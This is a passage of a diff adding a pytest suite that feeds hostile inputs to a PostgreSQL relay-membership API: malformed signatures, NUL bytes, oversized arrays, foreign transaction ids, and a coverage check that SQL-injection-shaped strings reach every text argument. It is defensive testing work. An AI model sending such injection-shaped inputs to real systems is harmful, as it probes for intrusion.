+    "claim_relay_invite.p_policy_version": {
+        "relay_members": 1,
+        "membership_events": 1,
+        "policy_acceptances": 1,
+    },
+    "allowlist_add.p_note": {"relay_allowlist": 1},
+}
+
+
+@pytest.mark.parametrize(
+    ("target", "label", "value"), STORED, ids=[f"{t}:{lbl}" for t, lbl, _ in STORED]
+)
+def test_stored_verbatim(target, label, value, world: World, su, conn_rolled_back) -> None:
+    conn = conn_rolled_back
+    func, arg = target.split(".")
+    # A community of its own: committed lists of one community run ahead of the clock by a
+    # second each, and these cases commit many.
+    with Membership.connect(world.url, world.key) as m:
+        c = m.create_community(f"s-{secrets.token_hex(6)}.hostile.example.org", new_pubkey())
+        c = c.details["community_id"]
+        code = m.create_relay_invite(c, "stored", max_uses=None).code
+    pk, pk2 = new_pubkey(), new_pubkey()
+    before = snapshot(su)
+    before_list = su.execute("SELECT buzz.member_list(%s)", (c,)).fetchone()[0]
+    params: dict[str, Any] = {"c": c, "pk": pk, "pks": [pk, pk2]}
+    mine = {"p_community": c, "p_code": code, "p_pubkey": pk, "p_pubkeys": [pk, pk2]}
+    args = [
+        (n, t, mine.get(n, v))
+        for n, t, v in args_for(Case(func, arg, label, value, "stored"), world)
+    ]
+    rows = call(conn.cursor(), func, args)
+    if func == "create_relay_invite":
+        params["invite"] = rows[0][0]
+    expected_rows = {
+        "add_relay_member": [("added",)],
+        "add_relay_members": [(2,)],
+        "claim_relay_membership": [("joined",)],
+        "allowlist_add": [("added",)],
+    }.get(func, rows)
+    if func == "claim_relay_invite":  # the unlimited invite: one more use, none remaining
+        expected_rows = [("joined", rows[0][1], None)]
+    assert rows == expected_rows
+    events = publish(conn, world.signer)
+    conn.commit()
+    TRIED["stored verbatim as data"] += 1
+
+    stored = su.execute(STORED_ARGS[target], params).fetchall()
+    want = value.lower() if label == "uppercase-pubkey" else value
+    assert stored == [(want,)]
+    after = snapshot(su)
+    delta = {t: counts(after)[t] - counts(before)[t] for t in counts(before)}
+    expected_delta = STORED_DELTAS[target]
+    changed = {t: d for t, d in delta.items() if d and t != "member_list_pieces"}
+    assert changed == expected_delta
+    # A membership write committed its list, which names exactly the members; others no list.
+    live = su.execute("SELECT buzz.member_list(%s)", (c,)).fetchone()[0]
+    members = dict(su.execute("SELECT pubkey, role FROM buzz.relay_members(%s)", (c,)).fetchall())
+    assert live["tags"] == expected_tags(members)
+    assert verify_event(live)
+    if "relay_members" in expected_delta:
+        assert events[0] == live and live["created_at"] > before_list["created_at"]
+    else:
+        assert events == [] and live == before_list
+    assert su.execute("SELECT * FROM buzz.member_list_drift()").fetchall() == []
+
+
+# The second phase: signatures of the wrong shape, ids that are not this transaction's.
+
+SIG = "ab" * 64
+
+
+@dataclass(frozen=True)
+class SigCase:
+    label: str
+    hostile: Callable[[list[str], list[str], World], tuple[Any, Any]]  # (ids, sigs) -> hostile
+    expect: str
+
+
+def _last_sig(bad: Any) -> Callable[[list[str], list[str], World], tuple[Any, Any]]:
+    return lambda ids, sigs, w: (ids, [*sigs[:-1], bad])
+
+
+SIG_CASES = [
+    *[
+        SigCase(f"sig-{label}", _last_sig(bad), "BZSIG")
+        for label, bad in [
+            ("127-hex", SIG[:127]),
+            ("129-hex", SIG + "a"),
+            ("64-hex", SIG[:64]),
+            ("empty", ""),
+            ("NULL", None),
+            ("non-hex", "z" * 128),
+            ("leading-space", " " + SIG[1:]),
+            ("trailing-space", SIG + " "),
+            ("trailing-newline", SIG[:127] + "\n"),
+            ("non-ascii", "\u00e9" * 128),
+            ("fullwidth-hex", "\uff41" * 128),
+            ("0x-prefix", "0x" + SIG[:126]),
+            ("huge-100k", "a" * HUGE),
+            *INJECTIONS,
+        ]
+    ],
+    SigCase("sig-NUL-byte", _last_sig(SIG[:64] + "\x00" + SIG[65:]), CLIENT),
+    SigCase("ids-reordered", lambda ids, sigs, w: (ids[::-1], sigs[::-1]), "BZSTL"),
+    SigCase("ids-one-missing", lambda ids, sigs, w: (ids[:-1], sigs[:-1]), "BZSTL"),
+    SigCase("ids-one-extra", lambda ids, sigs, w: ([*ids, ids[0]], [*sigs, sigs[0]]), "BZSTL"),
+    SigCase("sigs-one-missing", lambda ids, sigs, w: (ids, sigs[:-1]), "BZSTL"),
+    SigCase(
+        "ids-of-a-committed-transaction",
+        lambda ids, sigs, w: (w.committed_ids, w.committed_sigs),
+        "BZSTL",
+    ),
+    SigCase("id-NULL", lambda ids, sigs, w: ([*ids[:-1], None], sigs), "BZSTL"),
+    SigCase("id-trailing-space", lambda ids, sigs, w: ([*ids[:-1], ids[-1] + " "], sigs), "BZSTL"),
+    SigCase("id-63-hex", lambda ids, sigs, w: ([*ids[:-1], ids[-1][:63]], sigs), "BZSTL"),
+    *[
+        SigCase(f"id-{label}", lambda ids, sigs, w, bad=bad: ([*ids[:-1], bad], sigs), "BZSTL")
+        for label, bad in INJECTIONS
+    ],
+    SigCase("ids-2-D", lambda ids, sigs, w: ([[i] for i in ids], sigs), "BZSTL"),
+    SigCase("sigs-2-D", lambda ids, sigs, w: (ids, [[s] for s in sigs]), "BZSTL"),
+    SigCase("ids-NULL", lambda ids, sigs, w: (None, sigs), "BZSTL"),
+    SigCase("sigs-NULL", lambda ids, sigs, w: (ids, None), "BZSTL"),
+    SigCase(
+        "huge-100001",
+        lambda ids, sigs, w: ([*ids, *[""] * 99_999], [*sigs, *["0"] * 99_999]),
+        "BZSTL",
+    ),
+]
+
+
+def _prepare(conn: psycopg.Connection, w: World, community: Any) -> tuple[list[str], list[str]]:
+    """In conn's transaction: add a member to community, prepare; the ids and valid sigs."""
+    assert (
+        conn.execute("SELECT buzz.add_relay_member(%s, %s)", (community, new_pubkey())).fetchone()[
+            0
+        ]
+        == "added"
+    )
+    rows = conn.execute(
+        "SELECT community_id, id, kind, created_at, serialized"
+        " FROM buzz.prepare_membership_events(%s)",
+        (w.key.pubkey,),
+    ).fetchall()
+    prepared = [PreparedEvent(str(r[0]), r[1], r[2], r[3], r[4]) for r in rows]
+    assert [p.kind for p in prepared] == [13534, 8000]
+    return [p.id for p in prepared], w.signer.sign_all(prepared)
+
+
+def _insert(conn: psycopg.Connection, ids: Any, sigs: Any) -> list[tuple]:
+    return conn.execute(
+        "SELECT * FROM buzz.insert_signed_events(%s::text[], %s::text[])", (ids, sigs)
+    ).fetchall()
+
+
+def _expect_insert_fails(conn, expect: str, ids: Any, sigs: Any) -> None:
+    if expect == CLIENT:
+        with pytest.raises(psycopg.DataError, match="NUL") as info:
+            _insert(conn, ids, sigs)
+        assert info.value.sqlstate is None
+        TRIED["refused client-side (NUL byte)"] += 1
+        return
+    with pytest.raises(psycopg.Error) as info:
+        _insert(conn, ids, sigs)
+    exc = info.value
+    msg = exc.diag.message_primary or ""
+    assert exc.sqlstate == expect, (exc.sqlstate, msg)
+    assert len(msg.split()) >= 3, msg
+    assert exc.diag.message_hint, msg  # BZSTL and BZSIG say what to do
+    if expect == "BZSIG":
+        assert "p_sigs" in msg, msg
+    text = " ".join(filter(None, [msg, exc.diag.message_detail, exc.diag.message_hint]))
+    for value in (ids or []) + (sigs or []):
+        if isinstance(value, str) and len(value) >= 8:
+            assert value not in text, text[:300]
+    TRIED[f"rejected ({expect})"] += 1
+
+
+@pytest.mark.parametrize("case", SIG_CASES, ids=[c.label for c in SIG_CASES])
+def test_insert_signed_events_hostile(case: SigCase, world: World, su, conn_rolled_back) -> None:
+    conn = conn_rolled_back
+    before = snapshot(su)
+    ids, sigs = _prepare(conn, world, world.values[S.C])
+    bad_ids, bad_sigs = case.hostile(ids, sigs, world)
+    _expect_insert_fails(conn, case.expect, bad_ids, bad_sigs)
+    conn.rollback()
+    assert snapshot(su) == before
+
+
+def test_ids_prepared_before_a_later_change(world: World, su, conn_rolled_back) -> None:
+    conn = conn_rolled_back
+    before = snapshot(su)
+    ids, sigs = _prepare(conn, world, world.values[S.C])
+    conn.execute("SELECT buzz.add_relay_member(%s, %s)", (world.values[S.C], new_pubkey()))
+    _expect_insert_fails(conn, "BZSTL", ids, sigs)
+    conn.rollback()
+    assert snapshot(su) == before
+
+
+@pytest.mark.parametrize("b_prepares", [True, False], ids=["B-prepared", "B-nothing-prepared"])
+def test_ids_from_another_open_transaction(
+    b_prepares: bool, world: World, su, conn_rolled_back
+) -> None:
+    """Prepare in transaction A (still open, another connection), insert A's ids in B."""
+    conn_b = conn_rolled_back
+    before = snapshot(su)
+    with psycopg.connect(world.url, autocommit=False) as conn_a:
+        ids_a, sigs_a = _prepare(conn_a, world, world.values[S.C2])
+        if b_prepares:
+            _prepare(conn_b, world, world.values[S.C])
+        else:
+            conn_b.execute(
+                "SELECT buzz.add_relay_member(%s, %s)", (world.values[S.C], new_pubkey())
+            )
+        _expect_insert_fails(conn_b, "BZSTL", ids_a, sigs_a)
+        conn_b.rollback()
+        assert snapshot(su) == before
+        # A's ids were good for A all along.
+        assert len(_insert(conn_a, ids_a, sigs_a)) == 2
+        conn_a.rollback()
+    after = snapshot(su)
+    # A's insert drew event numbers, and sequences are not transactional: all else is equal.
+    assert {**after, "sequences": None} == {**before, "sequences": None}
+
+
+# Coverage: the table names every API function and every text, uuid and array argument.
+
+
+def test_cases_cover_every_function_and_argument(su) -> None:
+    rows = su.execute(
+        "SELECT p.proname, a.name, t.type"
+        " FROM pg_catalog.pg_proc p,"
+        " LATERAL ROWS FROM (pg_catalog.unnest(p.proargnames),"
+        "                    pg_catalog.unnest(p.proargtypes::oid[])) AS a (name, typ),"
+        " LATERAL (SELECT pg_catalog.format_type(a.typ, NULL) AS type) t"
+        " WHERE p.pronamespace = 'buzz'::regnamespace AND a.typ IS NOT NULL"
+    ).fetchall()
+    functions = {
+        r[0]
+        for r in su.execute(
+            "SELECT proname FROM pg_catalog.pg_proc WHERE pronamespace = 'buzz'::regnamespace"
+        )
+    }
+    assert set(SIGNATURES) <= functions, set(SIGNATURES) - functions
+    signatures = {(f, n, t) for f, sig in SIGNATURES.items() for n, t, _ in sig}
+    assert {r for r in rows if r[0] in SIGNATURES} == signatures
+    # A function beyond SPEC's list that takes text, a uuid or an array needs its own rows here
+    # (one without such arguments, like an argumentless read, has nothing to be hostile with).
+    unlisted = {r for r in rows if r[0] not in SIGNATURES and r[2] in {"text", "uuid", "text[]"}}
+    assert not unlisted, unlisted
+    covered = {(c.func, c.arg.split("[")[0]) for c in CASES}
+    wanted = {(f, n) for f, n, t in signatures if t in {"text", "uuid", "text[]"}}
+    assert wanted <= covered, wanted - covered
+    # SQL-injection-shaped strings reach every text argument.
+    injected = {(c.func, c.arg.split("[")[0]) for c in CASES if c.label == INJECTIONS[0][0]}
+    injected |= {tuple(t.split(".")) for t, lbl, _ in STORED if lbl == INJECTIONS[0][0]}
+    if any(c.label == f"sig-{INJECTIONS[0][0]}" for c in SIG_CASES):
+        injected.add(("insert_signed_events", "p_sigs"))
+    text_args = {(f, n) for f, n, t in signatures if t in {"text", "text[]", "uuid"}}
+    assert text_args <= injected, text_args - injected
+
+
+def test_zz_report(capsys) -> None:
+    """Print how many hostile inputs this run tried (runs last in this module)."""
+    total = sum(TRIED.values())
+    with capsys.disabled():
+        print(f"\nhostile inputs tried: {total}")
+        for what, n in sorted(TRIED.items()):
+            print(f"  {n:5d} {what}")
